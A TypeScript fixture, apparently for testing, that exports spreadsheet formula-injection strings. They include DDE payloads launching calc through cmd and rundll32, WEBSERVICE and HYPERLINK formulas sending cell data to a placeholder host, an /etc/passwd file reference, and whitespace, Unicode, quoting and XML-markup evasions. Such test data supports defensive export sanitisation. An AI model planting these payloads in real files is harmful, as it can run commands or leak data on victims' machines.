/** Cells of a figure that a spreadsheet or a sloppy writer might take for more than text. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"avaa")',
  '=IMPORTXML("http://example.invalid","//a")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "='file:///etc/passwd'#$sheet1.A1",
  '=1+1\u0000',
  '==1',
  '=+1',
  '=-1',
  '+-1',
  '--1',
  '-',
  '=',
  '=("a")',
  '={1;2}',
];

const behindBlanks = [
  ' =1+1',
  '   +1+1',
  '\t=1+1',
  '\t+358',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u0000=1+1',
  '\u001f=1+1',
  '\tsarkain',
  ' \t =1+1',
];

const wide = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1', '﹢1', '﹣1', '﹫SUM(1)', ' ＝1+1'];

const severalLines = [
  'rivi\n=1+1',
  'rivi\r\n=1+1',
  'rivi\r=1+1',
  'rivi\n\n  @SUM(1)',
  '- luettelo\n- jatkuu\n- päättyy',
  'a\u2028=1+1',
  'a\u0085=1+1',
  'a\v=1+1',
  'rivi\n"=1+1"',
  'rivi\n\t=1+1',
];

const quoting = [
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '""=1+1',
  '";=1+1;"',
  '",=1+1,"',
  '"\n=1+1\n"',
  '"\r\n=1+1;x\r\n"',
  'a";"b',
  'a"","b',
  '="019"',
  '"=""019"""',
  '”=1+1”',
  '«=1+1»',
  '\\"=1+1',
];

const otherSeparator = [
  'a;=1+1;b',
  'a,=1+1,b',
  'a\t=1+1\tb',
  'a; =1+1',
  "a;-2+3+cmd|' /C calc'!A0;b",
  'a,+1+1,b',
  'a;@SUM(1);b',
  'a,"=1+1",b',
  'sep=;\n=1+1',
  '|=1+1',
];

/** What only looks like a number, a date or markup has to stay what it is, too. */
const markup = [
  '<f>1+1</f>',
  ']]></t></is></c><c r="A9"><f>1+1</f></c>',
  '&lt;f&gt;&#61;1+1',
  '_x003D_1+1',
  '_x000D_=1+1',
];

export const attacks: readonly string[] = [
  ...formulas,
  ...behindBlanks,
  ...wide,
  ...severalLines,
  ...quoting,
  ...otherSeparator,
  ...markup,
];
